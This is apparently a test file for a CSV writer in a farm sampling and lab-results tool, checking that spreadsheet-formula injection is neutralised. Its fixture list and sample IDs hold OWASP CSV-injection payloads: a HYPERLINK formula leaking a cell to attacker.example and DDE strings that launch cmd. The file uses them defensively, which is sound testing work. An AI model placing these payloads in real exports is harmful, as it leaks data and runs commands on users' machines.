/**
 * Spreadsheet formula injection (OWASP, "CSV Injection"): a cell that starts with `=`, `+`, `-`,
 * `@`, tab (0x09) or carriage return (0x0D) is opened as a formula by spreadsheet programs, so
 * every CSV cell that does, and is not a plain number, is written with a leading single quote.
 * Checked through the shared writer, then through real summary.csv and next-round.csv files built
 * from a store, whose JSON twins keep the raw text. csv-parse (the reference RFC 4180 reader, a
 * dev dependency) reads the CSV back, so the checks see cells, not bytes.
 */
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { northfieldExport, ropeSheet } from '../../src/demo/scenario.js';
import { csvCell, csvTable } from '../../src/report/csvTable.js';
import { workspacesPerTest } from '../helpers/workspace.js';

const workspace = workspacesPerTest();

/** The hostile forms OWASP's "CSV Injection" page lists (formula, DDE, at-sign, and the two control characters). */
const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  "-2+3+cmd|' /C calc'!A0",
];

const readCsv = (text: string): string[][] => parse(text, { relax_column_count: false });

describe('csvCell and csvTable', () => {
  it('puts a single quote before every hostile form and keeps the rest of the text', () => {
    // OWASP "CSV Injection": prepend a single quote to cells starting with = + - @ 0x09 0x0D.
    for (const text of HOSTILE) expect(csvCell(text), JSON.stringify(text)).toBe(`'${text}`);
    const table = csvTable(
      ['sample_id', 'note'] as const,
      HOSTILE.map((text) => ({ sample_id: text, note: 'ok' })),
    );
    const [header, ...cells] = readCsv(table);
    expect(header).toEqual(['sample_id', 'note']);
    expect(cells.map((row) => row[0])).toEqual(HOSTILE.map((text) => `'${text}`));
    // No cell of the written table starts with a formula character (the check a spreadsheet makes).
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves plain numbers alone, signed or with an exponent, as text or as numbers', () => {
    // Common practice, no source: a spreadsheet reads these as values; quoting them would turn numbers into text.
    for (const text of ['-1.5', '-0', '1e-3', '-1e-3', '+2', '-.5', '36.2', '0'])
      expect(csvCell(text), text).toBe(text);
    expect(csvCell(-1.5)).toBe('-1.5');
    expect(csvCell(-0.000001)).toBe('-0.000001');
    expect(csvCell(1e-7)).toBe('1e-7');
    // Not a number: an expression, a sign alone, a number with something after it.
    for (const text of ['-1+1', '-', '+', '-1.5x', '-1,5', '- 1', '-Infinity', '-NaN'])
      expect(csvCell(text), text).toBe(`'${text}`);
  });

  it('leaves ordinary text, blanks and booleans as they were', () => {
    expect(csvCell('HC-0803-F1-01')).toBe('HC-0803-F1-01');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(' =1+1')).toBe(' =1+1');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(false)).toBe('false');
  });

  it('quotes a cell holding a semicolon or a tab, so a spreadsheet splitting on them cannot start a cell inside it', () => {
    // OWASP "CSV Injection": the field separator (`,` or `;`) can start a new cell in the middle of the input.
    const table = csvTable(['a', 'b'] as const, [{ a: 'x;=1+1', b: 'y\t@SUM(1)' }]);
    expect(table.split('\n')[1]).toBe('"x;=1+1","y\t@SUM(1)"');
    expect(readCsv(table)[1]).toEqual(['x;=1+1', 'y\t@SUM(1)']);
  });
});

describe('hostile text in real outputs', () => {
  it('summary.csv carries hostile sample IDs neutralised; summary.json keeps them raw', async () => {
    const ws = workspace();
    const site = ws.config().siteById.get('HOLLOW-CREEK')!;
    // Sample IDs are stored in capitals without spaces (normaliseSampleId), so these forms survive whole.
    const ids = ['=HYPERLINK("HTTP://ATTACKER.EXAMPLE","CLICK")', '@SUM(1+1)', "+CMD|'/CCALC'!A0", '-1+1'];
    const pens = ['A1', 'A2', 'A3', 'A4'];
    const sheet = ropeSheet(
      site,
      ids.map((sampleId, index) => ({ sampleId, barnId: 'F1', penId: pens[index]!, hungOn: '2026-08-03' })),
      Object.fromEntries(ids.map((id) => [id, '=NOTE()'])),
    );
    expect((await ws.drop('ropes.csv', sheet)).receipt.rows.accepted).toBe(4);
    const results = northfieldExport(
      ids.map((sampleId, index) => ({
        sampleId,
        assay: 'PRRSV' as const,
        ct: index === 0 ? 30 : null,
        collectedOn: '2026-08-03',
      })),
      '2026-08-06',
      1,
    );
    const outcome = await ws.drop('nvdl_hostile.csv', results);
    expect(outcome.receipt.rows).toMatchObject({ accepted: 4, rejected: 0 });

    const roundDir = path.join(ws.paths.outbox, 'hollow-creek', 'r01-2026-08-03');
    const rows = readCsv(fs.readFileSync(path.join(roundDir, 'summary.csv'), 'utf8'));
    const header = rows[0]!;
    const sampleIds = rows
      .slice(1)
      .map((row) => row[header.indexOf('sample_ids')]!)
      .filter((cell) => cell !== '');
    expect(sampleIds.sort()).toEqual(ids.map((id) => `'${id}`).sort());
    for (const row of rows)
      for (const cell of row)
        if (!/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The JSON twin keeps what the lab wrote.
    const json = JSON.parse(fs.readFileSync(path.join(roundDir, 'summary.json'), 'utf8')) as {
      pens: { sampleIds: string[] }[];
    };
    expect(json.pens.flatMap((pen) => pen.sampleIds).sort()).toEqual([...ids].sort());
  });

  it('next-round.csv carries hostile pen and side labels neutralised; next-round.json keeps them raw', async () => {
    // Row labels of a barn layout are free text in sites.yaml and become the pen labels and sides.
    const ws = workspace();
    const sites = fs.readFileSync(path.join(ws.paths.configDir, 'sites.yaml'), 'utf8');
    const hostileRows = sites.replace('rowLabels: [N, S]', `rowLabels: ['=N', '@S']`);
    expect(hostileRows).not.toBe(sites);
    fs.writeFileSync(path.join(ws.paths.configDir, 'sites.yaml'), hostileRows);
    const site = ws.config().siteById.get('HOLLOW-CREEK')!;
    await ws.drop('ropes.csv', ropeSheet(site, [{ sampleId: 'C1', barnId: 'F3', penId: '=N1', hungOn: '2026-08-03' }]));
    await ws.drop(
      'nvdl_r.csv',
      northfieldExport([{ sampleId: 'C1', assay: 'PRRSV', ct: 28, collectedOn: '2026-08-03' }], '2026-08-06', 1),
    );

    const siteDir = path.join(ws.paths.outbox, 'hollow-creek');
    const plan = JSON.parse(fs.readFileSync(path.join(siteDir, 'next-round.json'), 'utf8')) as {
      ropes: { barnId: string; penId: string; side: string; sampleId: string }[];
    };
    const f3 = plan.ropes.filter((rope) => rope.barnId === 'F3');
    expect(f3.length).toBeGreaterThan(0);
    // The JSON keeps the raw labels.
    expect(f3.every((rope) => rope.penId.startsWith('=N') || rope.penId.startsWith('@S'))).toBe(true);
    const rows = readCsv(fs.readFileSync(path.join(siteDir, 'next-round.csv'), 'utf8'));
    const header = rows[0]!;
    const csvF3 = rows.slice(1).filter((row) => row[header.indexOf('barn')] === 'F3');
    expect(
      csvF3.map((row) => [row[header.indexOf('sample_id')], row[header.indexOf('pen')], row[header.indexOf('side')]]),
    ).toEqual(f3.map((rope) => [rope.sampleId, `'${rope.penId}`, `'${rope.side}`]));
  });
});
